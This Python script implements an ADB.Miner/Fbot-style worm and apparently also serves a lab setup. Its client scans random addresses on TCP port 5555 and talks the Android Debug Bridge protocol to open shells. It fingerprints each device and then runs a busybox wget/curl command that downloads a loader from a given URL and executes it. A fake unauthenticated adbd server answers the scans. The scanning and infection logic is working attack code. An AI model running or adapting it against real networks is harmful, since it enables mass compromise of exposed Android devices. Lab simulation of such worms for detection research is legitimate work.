#!/usr/bin/python3
"""f7-adb-worm: an ADB.Miner / Fbot-style worm: the device probes random internet addresses on tcp/5555 (Android
Debug Bridge), and on each that answers speaks the ADB protocol (CNXN, then OPEN "shell:...") to learn the model
and to make it fetch and run the worm. The far end: fake adbd answering CNXN without authentication and giving a
short output for every shell.
server (the victim's namespace, on the addresses it has): argv = server PORT
client (the device): argv = client NET_PREFIX PROBES TARGET,TARGET,... LOADER_URL (NET_PREFIX e.g. 10.128 gives
random addresses 10.128-255.x.x; the targets are probed among them)"""
import random, socket, struct, sys, threading, time
from concurrent.futures import ThreadPoolExecutor

A_CNXN, A_OPEN, A_OKAY, A_CLSE, A_WRTE = 0x4E584E43, 0x4E45504F, 0x59414B4F, 0x45534C43, 0x45545257


def msg(cmd, a0, a1, data=b""):
    return struct.pack("<6I", cmd, a0, a1, len(data), sum(data) & 0xFFFFFFFF, cmd ^ 0xFFFFFFFF) + data


def recv_msg(s):
    h = b""
    while len(h) < 24:
        d = s.recv(24 - len(h))
        if not d:
            raise EOFError
        h += d
    cmd, a0, a1, n, _, _ = struct.unpack("<6I", h)
    data = b""
    while len(data) < n:
        d = s.recv(n - len(data))
        if not d:
            raise EOFError
        data += d
    return cmd, a0, a1, data


def serve_one(s):
    s.settimeout(20)
    rid = 100
    while True:
        cmd, a0, a1, data = recv_msg(s)
        if cmd == A_CNXN:
            s.sendall(msg(A_CNXN, 0x01000000, 4096, b"device::ro.product.name=rk3229;ro.product.model=MXQ-4K;"
                                                   b"ro.product.device=rk3229;features=shell_v2,cmd\0"))
        elif cmd == A_OPEN:
            rid += 1
            s.sendall(msg(A_OKAY, rid, a0))
            cmdline = data.rstrip(b"\0").decode(errors="replace")
            out = b"MXQ-4K\narmv7l\n" if "getprop" in cmdline else b"Connecting to host\n.b  100% |****| 88012 0:00:00 ETA\n"
            s.sendall(msg(A_WRTE, rid, a0, out))
            s.sendall(msg(A_CLSE, rid, a0))
        elif cmd == A_CLSE:
            pass


def server(port):
    ls = socket.socket()
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind(("0.0.0.0", port))
    ls.listen(16)
    while True:
        s, _ = ls.accept()
        def run(s=s):
            try:
                serve_one(s)
            except Exception:
                pass
            s.close()
        threading.Thread(target=run, daemon=True).start()


def probe(ip):
    try:
        s = socket.create_connection((ip, 5555), timeout=1.5)
        return ip, s
    except OSError:
        return ip, None


def shell(s, lid, line):
    s.sendall(msg(A_OPEN, lid, 0, ("shell:" + line + "\0").encode()))
    out = b""
    while True:
        cmd, a0, a1, data = recv_msg(s)
        if cmd == A_WRTE:
            out += data
            s.sendall(msg(A_OKAY, lid, a0))
        elif cmd == A_CLSE:
            s.sendall(msg(A_CLSE, lid, a0))
            return out


def infect(ip, s, loader):
    s.settimeout(10)
    try:
        s.sendall(msg(A_CNXN, 0x01000000, 4096, b"host::\0"))
        recv_msg(s)
        shell(s, 1, "getprop ro.product.model; uname -m")
        time.sleep(0.5)
        shell(s, 2, f"cd /data/local/tmp; busybox wget {loader} -O .b || curl -so .b {loader}; chmod 777 .b; ./.b adb")
    except Exception:
        pass
    s.close()


def client(prefix, probes, targets, loader):
    rnd = random.Random(55)
    a, b = (int(x) for x in prefix.split("."))
    addrs = [f"{a}.{rnd.randint(b, 255)}.{rnd.randint(0, 255)}.{rnd.randint(1, 254)}" for _ in range(probes)]
    for i, t in enumerate(targets):
        addrs.insert((i + 1) * len(addrs) // (len(targets) + 1), t)
    with ThreadPoolExecutor(48) as ex:
        open_ = [(ip, s) for ip, s in ex.map(probe, addrs) if s]
    for ip, s in open_:
        infect(ip, s, loader)
        time.sleep(1)


if sys.argv[1] == "server":
    server(int(sys.argv[2]))
else:
    client(sys.argv[2], int(sys.argv[3]), sys.argv[4].split(","), sys.argv[5])
